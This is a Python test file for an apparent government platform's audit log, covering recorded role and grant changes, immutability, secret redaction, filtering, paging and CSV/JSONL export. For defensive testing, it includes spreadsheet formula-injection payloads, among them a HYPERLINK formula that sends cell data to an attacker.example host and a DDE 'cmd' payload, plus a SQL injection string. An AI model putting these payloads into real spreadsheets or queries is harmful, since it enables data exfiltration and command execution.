"""The audit log: who changed what, written with the change, never changed, read in pages and as a file."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING
from uuid import UUID, uuid4

import pytest
from sqlalchemy import insert, select, text
from sqlalchemy.exc import DBAPIError

from gov_platform.domains.access import audit as reading
from gov_platform.domains.access.levels import Level
from gov_platform.domains.access.models import Grant
from gov_platform.domains.access.schemas import AuditExported
from gov_platform.domains.accounts import directory
from gov_platform.kernel.auditing import COMMAND, Actor, Change, record
from gov_platform.kernel.ids import new_id
from gov_platform.kernel.redaction import HIDDEN
from gov_platform.kernel.rows import AuditRecord
from tests.platform.access.persons import ACCESS, PAPERS, Person, personal_token
from tests.platform.accounts.people import AUTH, PASSWORD, bearing, login, refresh, tokens
from tests.platform.factories.making import make

if TYPE_CHECKING:
    import httpx
    from fastapi import FastAPI

    from gov_platform.kernel.context import Context
    from tests.platform.accounts.people import SetClock

pytestmark = pytest.mark.anyio

AUDIT = f"{ACCESS}/audit"


async def audited(by: Person, **filters: str | int) -> list[dict[str, object]]:
    """The records that filters let through, the newest first."""
    answer = await by.ask("GET", AUDIT, params=filters)
    assert answer.status_code == 200, answer.text
    told: list[dict[str, object]] = answer.json()["items"]
    return told


async def whole(context: Context) -> list[AuditRecord]:
    async with context.database.reading() as session:
        return list(await session.scalars(select(AuditRecord).order_by(AuditRecord.at, AuditRecord.id)))


@pytest.mark.gov("TASK-009.5")
async def test_each_change_of_a_role_tells_who_what_before_and_after(admin: Person, viewer: Person) -> None:
    identifier = uuid4()
    path = f"{ACCESS}/accounts/{viewer.id}/role"
    admin.headers["X-Request-ID"] = str(identifier)
    await admin.ask("PUT", path, json={"role": "editor"})
    await admin.ask("PUT", path, json={"role": "editor"})
    await admin.ask("DELETE", path)

    withdrawn, assigned = await audited(admin, target_id=viewer.id, request_id=identifier.hex)

    assert assigned["actor_id"] == withdrawn["actor_id"] == admin.id
    assert (assigned["means"], assigned["request_id"]) == ("session", identifier.hex)
    told = [(one["action"], one["target_kind"], one["before"], one["after"]) for one in (assigned, withdrawn)]
    assert told == [
        ("role.assigned", "account", {"role": "viewer"}, {"role": "editor"}),
        ("role.withdrawn", "account", {"role": "editor"}, {"role": "viewer"}),
    ]


@pytest.mark.gov("TASK-009.5")
async def test_each_change_of_a_grant_tells_who_what_before_and_after(
    editor: Person, viewer: Person, admin: Person
) -> None:
    paper = await editor.writes("mine")
    shared = f"{ACCESS}/grants/paper/{paper}"
    for level in ("read", "read", "write"):
        await editor.ask("PUT", f"{shared}/users/{viewer.id}", json={"level": level})
    await editor.ask("PUT", f"{shared}/roles/editor", json={"level": "read"})
    await admin.ask("DELETE", f"{shared}/users/{viewer.id}")
    await editor.ask("DELETE", f"{PAPERS}/{paper}")

    found = await audited(admin, target_kind="paper", target_id=paper, sort="at")

    one, everybody = {"user_id": viewer.id}, {"role": "editor"}
    assert [
        (change["action"], change["actor_id"], change["before"], change["after"]) for change in found
    ] == [
        ("grant.owned", editor.id, {}, {"user_id": editor.id, "level": "own"}),
        ("grant.shared", editor.id, {}, {**one, "level": "read"}),
        ("grant.shared", editor.id, {**one, "level": "read"}, {**one, "level": "write"}),
        ("grant.shared", editor.id, {}, {**everybody, "level": "read"}),
        ("grant.withdrawn", admin.id, {**one, "level": "write"}, {}),
        (
            "grant.all_removed",
            editor.id,
            {"grants": [{"user_id": editor.id, "level": "own"}, {**everybody, "level": "read"}], "number": 2},
            {},
        ),
    ]


@pytest.mark.gov("TASK-009.5")
async def test_of_very_many_grants_that_go_at_once_the_record_tells_the_first_and_how_many(
    editor: Person, admin: Person, context: Context
) -> None:
    paper, start, given = await editor.writes("well known"), datetime.now(UTC), []
    async with context.database.unit_of_work() as work:
        for number in range(150):
            at = start + timedelta(seconds=number)
            grant = await make(
                work, Grant, resource_kind="paper", resource_id=UUID(paper), level=Level.READ, created_at=at
            )
            given.append(str(grant.user_id))
        await work.commit()

    assert (await editor.ask("DELETE", f"{PAPERS}/{paper}")).status_code == 204

    (found,) = await audited(admin, action="grant.all_removed")
    before = found["before"]
    assert isinstance(before, dict)
    assert before["number"] == 151
    assert [one["user_id"] for one in before["grants"]] == [editor.id, *given[:99]]


@pytest.mark.gov("TASK-009.5")
async def test_a_change_whose_record_fails_does_not_happen(
    admin: Person, viewer: Person, context: Context, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def full(*_: object) -> None:
        raise OSError("the log is full")

    monkeypatch.setattr(directory, "record", full)
    before = len(await whole(context))

    answer = await admin.ask("PUT", f"{ACCESS}/accounts/{viewer.id}/role", json={"role": "admin"})

    assert answer.status_code == 500
    assert (await admin.ask("GET", f"{ACCESS}/accounts/{viewer.id}")).json()["role"] == "viewer"
    assert len(await whole(context)) == before


@pytest.mark.gov("TASK-009.5")
async def test_a_change_that_fails_leaves_no_record(admin: Person, context: Context) -> None:
    before = len(await whole(context))

    assert (await admin.ask("DELETE", f"{ACCESS}/accounts/{admin.id}/role")).status_code == 409
    assert (await admin.ask("POST", PAPERS, json={"title": "broken"})).status_code == 409

    assert len(await whole(context)) == before


@pytest.mark.parametrize(
    "statement",
    ["UPDATE audit_log SET action = 'nothing'", "DELETE FROM audit_log", "TRUNCATE audit_log"],
)
async def test_the_database_refuses_to_change_the_log(
    admin: Person, context: Context, statement: str
) -> None:
    before = [(row.id, row.action) for row in await whole(context)]
    assert before

    async with context.database.unit_of_work() as work:
        with pytest.raises(DBAPIError):
            await work.execute(text(statement))

    assert [(row.id, row.action) for row in await whole(context)] == before
    assert (await admin.ask("GET", AUDIT)).status_code == 200


async def test_what_accounts_change_is_recorded_with_who_did_it(
    client: httpx.AsyncClient, context: Context, admin: Person, app: FastAPI, clock: SetClock
) -> None:
    sent = {"email": "tom@example.org", "password": PASSWORD}
    await client.post(f"{AUTH}/register", json=sent)
    await client.post(f"{AUTH}/register", json=sent)
    await login(client, "tom@example.org", "a wrong one, surely")
    await login(client, "nobody@example.org", "a wrong one, surely")
    first = await tokens(client, "tom@example.org")
    tom = Person("", "", bearing(first["access_token"]), client)
    made = (await personal_token(tom, "account:read")).json()
    await tom.ask("DELETE", f"{AUTH}/tokens/{made['id']}")
    await refresh(client, first["refresh_token"])
    clock.ahead = timedelta(seconds=11)
    await refresh(client, first["refresh_token"])
    second = await tokens(client, "tom@example.org")
    await client.post(f"{AUTH}/logout", headers=bearing(second["access_token"]))
    third = await tokens(client, "tom@example.org")
    await client.post(f"{AUTH}/logout-all", headers=bearing(third["access_token"]))
    object.__setattr__(context.settings, "bcrypt_cost", 5)
    app.state.accounts = None
    await tokens(client, "tom@example.org")
    async with context.database.unit_of_work() as work:
        await app.state.accounts.keys.rotate(work, COMMAND)
        await work.commit()

    found = [(row.action, row.means) for row in await whole(context)]

    assert found[:3] == [
        ("account.made", "command"), ("session.began", "session"), ("signing_key.made", "platform"),
    ]  # fmt: skip
    assert found[3:] == [
        ("account.registered", "visitor"),
        ("session.refused", "visitor"),
        ("session.refused", "visitor"),
        ("session.began", "session"),
        ("personal_token.made", "session"),
        ("personal_token.withdrawn", "session"),
        ("session.ended_by_replay", "visitor"),
        ("session.began", "session"),
        ("session.ended", "session"),
        ("session.began", "session"),
        ("session.all_ended", "session"),
        ("password.hashed_anew", "visitor"),
        ("session.began", "session"),
        ("signing_key.made", "command"),
    ]
    assert {row.actor_id for row in await whole(context) if row.means == "session"} >= {UUID(admin.id)}


async def test_no_secret_is_in_the_log(client: httpx.AsyncClient, context: Context, admin: Person) -> None:
    made = (await personal_token(admin, "account:read")).json()
    given = await tokens(client, admin.email)
    secrets = [PASSWORD, made["token"], given["access_token"], given["refresh_token"]]
    async with context.database.unit_of_work() as work:
        change = Change(
            "test.made", "test", "1", {"password": PASSWORD, "note": f"Bearer {given['access_token']}"}
        )
        await record(work, COMMAND, change, context.clock())
        await work.commit()

    plain = json.dumps([[row.before, row.after, row.target_id] for row in await whole(context)])

    assert [secret for secret in secrets if secret in plain] == []
    assert (await audited(admin, action="test.made"))[0]["before"] == {"password": HIDDEN, "note": HIDDEN}


async def test_the_log_is_filtered_by_who_what_which_and_when_and_paged(
    admin: Person, context: Context
) -> None:
    ann, tom = uuid4(), uuid4()
    start = datetime(2026, 1, 1, tzinfo=UTC)
    async with context.database.unit_of_work() as work:
        for number in range(10):
            change = Change("test.odd" if number % 2 else "test.even", "test", str(number // 5))
            actor = Actor("session", ann if number < 5 else tom)
            await record(work, actor, change, start + timedelta(days=number))
        await work.commit()
    filters: list[tuple[dict[str, str | int], int]] = [
        ({"actor_id": str(ann)}, 5),
        ({"action": "test.odd"}, 5),
        ({"target_kind": "test"}, 10),
        ({"target_kind": "test", "target_id": "1"}, 5),
        ({"since": "2026-01-03T00:00:00Z", "until": "2026-01-05T00:00:00+00:00"}, 2),
        ({"since": "2026-01-03T02:00:00+02:00", "until": "2026-01-05T00:00:00-01:00"}, 3),
        ({"actor_id": str(tom), "action": "test.odd", "target_id": "1"}, 3),
        ({"target_id": "' OR 1=1 --"}, 0),
    ]

    for given, many in filters:
        assert len(await audited(admin, **given)) == many, given
    days, params = [], {"target_kind": "test", "limit": 4}
    while True:
        page = (await admin.ask("GET", AUDIT, params=params)).json()
        days += [datetime.fromisoformat(one["at"]).day for one in page["items"]]
        if page["next"] is None:
            break
        params["cursor"] = page["next"]
    assert days == list(range(10, 0, -1))


@pytest.mark.parametrize(
    "wrong",
    [
        {"since": "yesterday"},
        {"since": "2026-01-01T00:00:00"},
        {"since": "0001-01-01T00:00:00+23:59"},
        {"until": "9999-12-31T23:59:59-23:59"},
        {"actor_id": "tom"},
        {"action": "x" * 65},
        {"action": "a\nb"},
        {"before": "x"},
        {"format": "xml"},
        {"sort": "actor_id"},
    ],
)
async def test_filters_that_are_none_are_refused(admin: Person, wrong: dict[str, str]) -> None:
    export = await admin.ask("GET", f"{AUDIT}/export", params=wrong)
    assert export.status_code == 422
    if "format" not in wrong:
        assert (await admin.ask("GET", AUDIT, params=wrong)).status_code == 422


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1",
    "\n=1", " =1", "\uff1d1", '"=1', 'a,"b"\r\nc', "'=1", "plain",
]  # fmt: skip


async def with_formulas(context: Context) -> None:
    async with context.database.unit_of_work() as work:
        for number, formula in enumerate(FORMULAS):
            at = context.clock() + timedelta(milliseconds=number)
            await record(work, COMMAND, Change("test.made", "test", formula, {formula: formula}), at)
        await work.commit()


async def test_an_exported_table_runs_nothing_and_loses_nothing(
    admin: Person, context: Context, clock: SetClock
) -> None:
    await with_formulas(context)
    clock.ahead = timedelta(seconds=5)

    answer = await admin.ask("GET", f"{AUDIT}/export", params={"action": "test.made"})

    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="audit.csv"'
    head, *rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert head[:3] == ["id", "at", "means"]
    assert [
        cell for row in rows for cell in row if cell.lstrip()[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")
    ] == []
    ids = [row[head.index("target_id")] for row in rows]
    assert [one.removeprefix("'") for one in ids] == [one.removeprefix("'") for one in FORMULAS]
    assert [one for one in ids if one.startswith("'")] == [f"'{one}" for one in FORMULAS[:9]] + ["'=1"]


async def test_exported_lines_are_json_each_and_what_the_pages_say(
    admin: Person, context: Context, clock: SetClock
) -> None:
    await with_formulas(context)
    clock.ahead = timedelta(seconds=5)

    answer = await admin.ask("GET", f"{AUDIT}/export", params={"format": "jsonl", "action": "test.made"})

    assert answer.headers["content-type"] == "application/jsonl"
    lines = [json.loads(line) for line in answer.text.split("\n")[:-1]]
    assert lines == await audited(admin, action="test.made", sort="at")
    assert [line["target_id"] for line in lines] == FORMULAS


async def fill(context: Context, many: int) -> None:
    """Put that many records into the log, many of them at one moment."""
    start = datetime(2026, 1, 1, tzinfo=UTC)
    async with context.database.unit_of_work() as work:
        for number in range(0, many, 1000):
            rows = [
                {
                    "id": new_id(), "at": start + timedelta(seconds=one // 7), "means": "command",
                    "actor_id": None, "credential_id": None, "action": "test.filled", "target_kind": "test",
                    "target_id": str(one), "before": {"a": "x" * 100}, "after": {"a": "y" * 100},
                    "request_id": "",
                }
                for one in range(number, min(number + 1000, many))
            ]  # fmt: skip
            await work.execute(insert(AuditRecord), rows)
        await work.commit()


async def test_an_export_leaves_out_no_record_and_tells_none_twice(admin: Person, context: Context) -> None:
    await fill(context, 1203)

    answer = await admin.ask("GET", f"{AUDIT}/export", params={"format": "jsonl", "action": "test.filled"})

    told = [int(json.loads(line)["target_id"]) for line in answer.text.splitlines()]
    assert sorted(told) == list(range(1203))


@pytest.mark.usefixtures("client")  # which closes what the application opened
async def test_between_two_pieces_an_export_holds_no_connection(context: Context) -> None:
    await fill(context, 1203)

    pieces = await reading.export(context, AuditExported(format="csv", action="test.filled"))

    pool = context.database.engine.pool
    held = [pool.checkedout() async for _ in pieces]  # type: ignore[attr-defined] # a queue of connections
    assert held == [0, 0, 0, 0]


@pytest.mark.hard
@pytest.mark.untimed
@pytest.mark.usefixtures("client")  # likewise
async def test_an_export_takes_no_more_memory_for_more_records(context: Context) -> None:
    used = []
    for many in (4_000, 40_000):
        await fill(context, many)
        tracemalloc.start()
        size = 0
        async for piece in await reading.export(context, AuditExported(format="csv")):
            size += len(piece)
        used.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert size > many * 300

    assert used[1] < used[0] * 1.5
